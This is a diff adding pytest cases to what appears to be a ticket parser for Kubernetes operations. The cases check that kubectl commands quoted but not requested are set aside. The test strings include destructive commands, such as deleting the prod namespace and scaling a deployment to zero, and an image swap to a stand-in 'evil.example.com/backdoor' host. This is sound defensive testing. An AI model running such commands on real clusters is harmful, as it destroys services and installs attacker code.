@@ -663,3 +663,20 @@ def test_a_setting_must_be_spoken_of_as_a_word() -> None:
 def test_a_change_asks_object_must_be_what_the_code_acts_on_not_its_namespace() -> None:
     request = read_ticket("api", "Please delete staging:\n" + fenced("kubectl delete deployment api -n staging"))
     assert request.read_from_code == ()
+
+
+@pytest.mark.parametrize("description", [
+    "api in shop returns 500s. Please do not run `kubectl delete deployment api -n shop` like last time.",
+    "The attacker ran `kubectl delete namespace prod` from a stolen laptop.",
+    "Last time someone ran `kubectl scale deployment/api --replicas=0 -n shop` and it broke.",
+    "Please don't run this: `kubectl set image deployment/api api=evil.example.com/backdoor:1 -n shop`",
+])
+def test_a_quoted_changing_command_the_sentence_does_not_ask_for_is_set_aside(description: str) -> None:
+    request = read_ticket("api", description)
+    assert request.action not in (Action.DELETE_WORKLOAD, Action.DELETE_NAMESPACE, Action.UPDATE_IMAGE)
+    assert request.replicas != 0 and any("kubectl" in text for text in request.set_aside)
+
+
+def test_a_quoted_command_the_sentence_asks_for_is_read_as_before() -> None:
+    request = read_ticket("checkout", "Can someone do a `kubectl rollout restart deployment/checkout -n payments`?")
+    assert (request.action, request.name, request.namespace) == (Action.RESTART, "checkout", "payments")
